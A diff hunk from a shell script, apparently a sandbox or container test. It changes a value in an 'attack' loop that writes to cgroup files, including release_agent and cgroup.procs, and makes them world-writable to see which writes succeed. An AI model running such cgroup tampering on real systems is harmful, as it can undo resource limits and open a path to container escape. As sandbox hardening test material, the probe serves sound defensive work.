@@ -21,7 +21,7 @@ attack='for d in /sys/fs/cgroup /sys/fs/cgroup/*; do
             cgroup.procs | tasks) text=$$ ;;
             cgroup.subtree_control) text=-memory ;;
             release_agent) text=/x ;;
-            *) text=3000 ;;
+            *) text=300000000 ;;
         esac
         { echo $text >$d/$f; } 2>/dev/null && echo "wrote $d/$f"
         chmod 777 $d/$f 2>/dev/null && echo "chmod $d/$f"
